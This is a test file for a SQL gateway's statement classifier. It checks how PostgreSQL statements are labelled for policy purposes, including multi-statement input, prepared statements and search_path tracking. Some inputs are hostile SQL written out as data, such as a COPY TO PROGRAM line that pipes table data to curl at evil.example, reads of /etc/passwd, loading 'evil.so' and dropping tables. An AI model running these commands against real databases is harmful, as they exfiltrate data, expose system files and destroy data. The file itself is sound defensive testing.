import assert from 'node:assert/strict';
import type { StatementClass } from '../../../gateway/policy/contract';
import { isParserSafeClientEncoding } from '../../../gateway/policy/parser-safety';
import { classifySql, literalShape, loadStatementParser } from '../../../gateway/policy/statement-classifier';

interface Case {
  sql: string;
  /** Classes of each statement, in order. */
  classes: StatementClass[][];
  relations?: string[][];
  functions?: string[][];
}

const CASES: Case[] = [
  { sql: 'SELECT * FROM orders', classes: [['read']], relations: [['orders']] },
  { sql: 'select o.id from public.orders o join sales.items i on i.o = o.id', classes: [['read']], relations: [['public.orders', 'sales.items']] },
  { sql: 'INSERT INTO audit.log SELECT * FROM src', classes: [['read', 'write']], relations: [['audit.log', 'src']] },
  { sql: 'UPDATE accounts SET balance = 0 WHERE id IN (SELECT id FROM flagged)', classes: [['read', 'write']], relations: [['accounts', 'flagged']] },
  { sql: "MERGE INTO t USING s ON t.id = s.id WHEN MATCHED THEN DELETE", classes: [['write']], relations: [['t', 's']] },
  // A data-modifying CTE under a SELECT is a write.
  { sql: 'WITH x AS (DELETE FROM orders RETURNING *) SELECT * FROM x', classes: [['read', 'write']], relations: [['orders']] },
  { sql: 'WITH RECURSIVE x AS (SELECT 1 UNION ALL SELECT * FROM x) SELECT * FROM x', classes: [['read']], relations: [[]] },
  // A CTE shadows a table only inside its own statement.
  { sql: 'SELECT * FROM (WITH secret AS (SELECT 1) SELECT * FROM secret) a, secret', classes: [['read']], relations: [['secret']] },
  // The target of INSERT is always a table, even if a CTE has its name.
  { sql: 'WITH t AS (SELECT 1) INSERT INTO t VALUES (1)', classes: [['read', 'write']], relations: [['t']] },
  // Multi-statement strings: every statement, with its own text.
  { sql: 'SELECT 1; DROP TABLE users', classes: [['read'], ['ddl']], relations: [[], ['users']] },
  { sql: 'BEGIN; UPDATE a SET x = 1; COMMIT', classes: [['transaction'], ['write'], ['transaction']] },
  // Comments, case and quoting do not hide anything.
  { sql: '/* harmless */ dElEtE/**/FROM -- really\n "Orders"', classes: [['write']], relations: [['Orders']] },
  { sql: 'DELETE FROM "Public"."Orders"', classes: [['write']], relations: [['Public.Orders']] },
  { sql: 'DELETE FROM PUBLIC.ORDERS', classes: [['write']], relations: [['public.orders']] },
  { sql: 'DROP TABLE "odd.schema"."t"', classes: [['ddl']], relations: [['"odd.schema".t']] },
  // DDL, DCL, TRUNCATE.
  { sql: 'CREATE TABLE t (id int)', classes: [['ddl']], relations: [['t']] },
  { sql: 'ALTER TABLE t ADD COLUMN c int', classes: [['ddl']], relations: [['t']] },
  { sql: 'ALTER TABLE t OWNER TO mallory', classes: [['ddl', 'dcl']], relations: [['t']] },
  { sql: 'ALTER TABLE t DISABLE ROW LEVEL SECURITY', classes: [['ddl', 'dcl']] },
  { sql: 'TRUNCATE payments', classes: [['write', 'ddl']], relations: [['payments']] },
  { sql: 'SELECT * INTO copy_of_users FROM users', classes: [['read', 'write', 'ddl']], relations: [['copy_of_users', 'users']] },
  { sql: 'GRANT ALL ON users TO public', classes: [['dcl']], relations: [['users']] },
  { sql: 'REVOKE SELECT ON users FROM bob', classes: [['dcl']] },
  { sql: 'CREATE ROLE r LOGIN SUPERUSER', classes: [['dcl']] },
  { sql: "ALTER ROLE app PASSWORD 'x'", classes: [['dcl']] },
  { sql: 'GRANT admin TO app', classes: [['dcl']] },
  { sql: "ALTER SYSTEM SET log_statement = 'none'", classes: [['dcl']] },
  // COPY in each direction, and PROGRAM as its own class.
  { sql: 'COPY t FROM STDIN', classes: [['write', 'copy_from']], relations: [['t']] },
  { sql: 'COPY (SELECT * FROM t) TO STDOUT', classes: [['read', 'copy_to']], relations: [['t']] },
  { sql: "COPY t TO PROGRAM 'curl -d @- evil.example'", classes: [['copy_program']], relations: [['t']] },
  { sql: "copy t from program 'id'", classes: [['copy_program']] },
  { sql: "COPY t FROM '/etc/passwd'", classes: [['write', 'copy_from', 'utility']] },
  // Session settings and transaction control.
  { sql: 'SET search_path = evil, public', classes: [['session']] },
  { sql: 'RESET ALL', classes: [['session']] },
  { sql: 'SET ROLE postgres', classes: [['dcl', 'session']] },
  { sql: 'SET SESSION AUTHORIZATION postgres', classes: [['dcl', 'session']] },
  { sql: 'SET TRANSACTION ISOLATION LEVEL SERIALIZABLE', classes: [['transaction']] },
  { sql: 'SHOW search_path', classes: [['read']] },
  { sql: 'START TRANSACTION READ ONLY; ROLLBACK', classes: [['transaction'], ['transaction']] },
  // Function calls: ordinary built-ins are reads; anything else is a function call.
  { sql: 'SELECT count(*), lower(name), now() FROM users', classes: [['read']], functions: [['count', 'lower', 'now']] },
  { sql: 'SELECT pg_terminate_backend(pid) FROM pg_stat_activity', classes: [['read', 'function_call']], functions: [['pg_terminate_backend']] },
  { sql: 'select PG_CATALOG.pg_read_file($$/etc/passwd$$)', classes: [['read', 'function_call']], functions: [['pg_catalog.pg_read_file']] },
  { sql: "SELECT * FROM dblink('host=x', 'DELETE FROM t') AS r(x int)", classes: [['read', 'write', 'function_call', 'utility']] },
  { sql: "SELECT setval('s', 1)", classes: [['read', 'write', 'function_call']] },
  { sql: 'CALL archive_orders()', classes: [['write', 'function_call']], functions: [['archive_orders']] },
  // PREPARE is classified by its body; EXECUTE by what it runs.
  { sql: 'PREPARE p AS DELETE FROM orders', classes: [['write']], relations: [['orders']] },
  { sql: 'PREPARE p AS SELECT 1; EXECUTE p', classes: [['read'], ['read']] },
  { sql: 'PREPARE p(int) AS DELETE FROM t WHERE id = $1; EXECUTE p(1)', classes: [['write'], ['write']], relations: [['t'], ['t']] },
  // EXPLAIN ANALYZE runs the statement; EXPLAIN alone only plans it.
  { sql: 'EXPLAIN ANALYZE DELETE FROM orders', classes: [['write']], relations: [['orders']] },
  { sql: 'EXPLAIN (ANALYZE, BUFFERS) UPDATE t SET x = 1', classes: [['write']] },
  { sql: 'EXPLAIN (ANALYZE false) DELETE FROM orders', classes: [['read']], relations: [['orders']] },
  { sql: 'EXPLAIN DELETE FROM orders', classes: [['read']] },
  // Opaque code.
  { sql: "DO $$ BEGIN EXECUTE 'DROP TABLE users'; END $$", classes: [['write', 'utility']] },
  { sql: 'VACUUM ANALYZE t', classes: [['utility']] },
  { sql: 'LISTEN ch; NOTIFY ch', classes: [['session'], ['utility']] },
  { sql: 'DECLARE c CURSOR FOR SELECT * FROM t; FETCH 10 FROM c', classes: [['read'], ['read']] },
  { sql: "LOAD 'evil.so'", classes: [['ddl', 'utility']] },
];

describe('gateway/policy/statement-classifier', () => {
  before(async () => {
    await loadStatementParser();
  });

  for (const c of CASES) {
    it(`classifies ${JSON.stringify(c.sql)}`, () => {
      const result = classifySql(c.sql);
      assert.ok(result.ok, `parse failed: ${result.ok ? '' : result.error}`);
      assert.deepEqual(
        result.statements.map((s) => s.classes),
        c.classes,
      );
      if (c.relations) assert.deepEqual(result.statements.map((s) => s.relations), c.relations);
      if (c.functions) assert.deepEqual(result.statements.map((s) => s.functions), c.functions);
    });
  }

  it('splits statement texts on byte offsets, multi-byte characters included', () => {
    const result = classifySql("SELECT 'é€😀' ;  DELETE FROM t ; SELECT 2");
    assert.ok(result.ok);
    assert.deepEqual(
      result.statements.map((s) => [s.text, s.command]),
      [
        ["SELECT 'é€😀'", 'SelectStmt'],
        ['DELETE FROM t', 'DeleteStmt'],
        ['SELECT 2', 'SelectStmt'],
      ],
    );
  });

  it('reports unparseable input with the parser message and position, never as a statement', () => {
    for (const sql of ['SELEC 1', 'DELETE FROM', "SELECT 'unterminated", 'SELECT 1; DROP', 'SELECT 1\0; DROP TABLE t']) {
      const result = classifySql(sql);
      assert.equal(result.ok, false, sql);
    }
    const result = classifySql('SELECT * FORM t');
    assert.ok(!result.ok);
    assert.match(result.error, /syntax error at or near "FORM"/);
    assert.equal(result.position, 9);
  });

  it('takes search_path for unknown after code it cannot see into (DO, CALL, query_to_xml): it may call set_config', () => {
    for (const sql of [
      "DO $$ BEGIN PERFORM set_config('search_path', 'ledger', false); END $$",
      'CALL public.rearrange()',
      "SELECT query_to_xml('SELECT set_config(''search_path'', ''ledger'', false)', true, false, '')",
    ]) {
      const result = classifySql(sql);
      assert.ok(result.ok, sql);
      if (!result.ok) continue;
      assert.deepEqual(result.searchPathEffects, [{ statement: 0, schemas: 'unknown', local: false }], sql);
    }
    const plain = classifySql('SELECT now(), count(*) FROM t');
    assert.ok(plain.ok && plain.searchPathEffects.length === 0, 'a built-in call leaves it as it is');
  });

  it('knows which client encodings lex differently from UTF-8', () => {
    for (const name of ['SJIS', 'Shift_JIS', 'big5', 'GBK', 'gb18030', 'UHC', 'win932']) assert.equal(isParserSafeClientEncoding(name), false, name);
    for (const name of ['UTF8', 'utf-8', 'SQL_ASCII', 'LATIN1', 'EUC_JP', 'WIN1252']) assert.equal(isParserSafeClientEncoding(name), true, name);
  });

  it('hands out results that callers may change without affecting the next caller', () => {
    const first = classifySql('DELETE FROM cached_table');
    assert.ok(first.ok);
    first.statements[0]!.classes.length = 0;
    first.statements[0]!.relations.push('other');
    const second = classifySql('DELETE FROM cached_table');
    assert.ok(second.ok);
    assert.deepEqual([second.statements[0]!.classes, second.statements[0]!.relations], [['write'], ['cached_table']]);
  });

  it('reuses a classification for texts that differ only in inlined integers, with each text\'s own statements', () => {
    const first = classifySql('SELECT 1; DELETE FROM shaped_t WHERE id = 55; SELECT 22');
    const second = classifySql('SELECT 333333; DELETE FROM shaped_t WHERE id = 5; SELECT 2');
    assert.ok(first.ok && second.ok);
    assert.deepEqual(
      second.statements.map((s) => [s.text, s.classes, s.relations]),
      [
        ['SELECT 333333', ['read'], []],
        ['DELETE FROM shaped_t WHERE id = 5', ['write'], ['shaped_t']],
        ['SELECT 2', ['read'], []],
      ],
    );
  });

  it('shapes only whole integer tokens in texts without quotes, comments or non-ASCII', () => {
    assert.equal(literalShape('SELECT abalance FROM pgbench_accounts WHERE aid = 372340;')?.key, 'SELECT abalance FROM pgbench_accounts WHERE aid = 0;');
    assert.equal(literalShape('UPDATE t SET a = a + -4015 WHERE id=7')?.key, 'UPDATE t SET a = a + -0 WHERE id=0');
    // Digits inside identifiers, parameters, decimals, exponents, hex-looking and long numbers stay.
    assert.equal(literalShape('SELECT t1.a2 FROM t1 WHERE x = 1.5 AND y = 1e5 AND z = $1 AND w = 0x1F AND v = 1234567890'), null);
    for (const text of ["SELECT 1 FROM t WHERE s = 'a1'", 'SELECT 1 FROM "t1"', 'SELECT 1 -- 2', 'SELECT 1 /* 2 */', 'SELECT $$1$$', 'SELECT 1 AS é']) {
      assert.equal(literalShape(text), null, text);
    }
  });

  it('does not reuse a classification that depended on a literal\'s value', () => {
    const runs = classifySql('EXPLAIN (ANALYZE 1) DELETE FROM shaped_orders');
    const plans = classifySql('EXPLAIN (ANALYZE 0) DELETE FROM shaped_orders');
    assert.ok(runs.ok && plans.ok);
    assert.deepEqual([runs.statements[0]!.classes, plans.statements[0]!.classes], [['write'], ['read']]);
  });

  it('treats empty and comment-only input as no statement', () => {
    for (const sql of ['', '   ', '-- nothing', '/* nothing */ ;']) {
      const result = classifySql(sql);
      assert.ok(result.ok);
      assert.deepEqual(result.statements, []);
    }
  });

  it('EXECUTE uses the session’s prepared statements and reports names it never saw', () => {
    const first = classifySql('PREPARE del AS DELETE FROM orders');
    assert.ok(first.ok);
    assert.deepEqual(first.preparedEffects.map((e) => e.op), ['set']);
    const prepared = new Map(first.preparedEffects.flatMap((e) => (e.op === 'set' ? [[e.name, e.statement] as const] : [])));
    const run = classifySql('EXECUTE del', prepared);
    assert.ok(run.ok);
    assert.deepEqual(run.statements[0]!.classes, ['write']);
    assert.deepEqual(run.statements[0]!.relations, ['orders']);
    const unknown = classifySql('EXECUTE other');
    assert.ok(unknown.ok);
    assert.deepEqual(unknown.unknownPrepared, ['other']);
    // The same EXECUTE text means something else in a session without that statement.
    const elsewhere = classifySql('EXECUTE del');
    assert.ok(elsewhere.ok);
    assert.deepEqual(elsewhere.unknownPrepared, ['del']);
    const dropped = classifySql('DEALLOCATE del; EXECUTE del', prepared);
    assert.ok(dropped.ok);
    assert.deepEqual(dropped.unknownPrepared, ['del']);
  });

  it('a prepared statement keeps the search_path changes it makes, and EXECUTE makes them where it runs', () => {
    const first = classifySql("PREPARE sp AS SELECT set_config('search_path', 'ledger', false)");
    assert.ok(first.ok);
    const effect = first.preparedEffects[0];
    assert.ok(effect?.op === 'set');
    assert.deepEqual(effect.statement.searchPath, [{ schemas: 'unknown', local: false }]);
    const run = classifySql('SELECT 1; EXECUTE sp', new Map([['sp', effect.statement]]));
    assert.ok(run.ok);
    assert.deepEqual(run.searchPathEffects, [{ statement: 1, schemas: 'unknown', local: false }]);
    const named = classifySql('EXECUTE s', new Map([['s', { text: 'SET search_path = ledger', classes: ['session'], relations: [], searchPath: [{ schemas: ['ledger'], local: false }] }]]));
    assert.ok(named.ok);
    assert.deepEqual(named.searchPathEffects, [{ statement: 0, schemas: ['ledger'], local: false }]);
  });
});
